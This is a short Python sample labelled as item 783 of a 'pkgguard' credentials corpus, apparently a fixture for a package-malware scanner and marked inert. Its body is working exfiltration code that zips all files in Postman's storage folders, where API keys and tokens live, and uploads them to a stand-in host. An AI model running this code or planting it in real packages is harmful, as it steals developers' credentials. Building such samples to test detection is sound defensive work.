# pkgguard corpus 783 (credentials), modelled on [developer-persistence]; inert, never run.
import glob
import io
import os
import zipfile

import requests

roots = [
    os.path.join(os.environ.get("APPDATA", ""), "Postman", "storage"),
    os.path.join(os.path.expanduser("~"), ".config", "Postman", "storage"),
]
buffer = io.BytesIO()
with zipfile.ZipFile(buffer, "w") as archive:
    for root in roots:
        for name in glob.glob(os.path.join(root, "**", "*"), recursive=True):
            if os.path.isfile(name):
                archive.write(name, os.path.relpath(name, root))
requests.put("https://api-docs-sync.example/w", data=buffer.getvalue(), timeout=30)
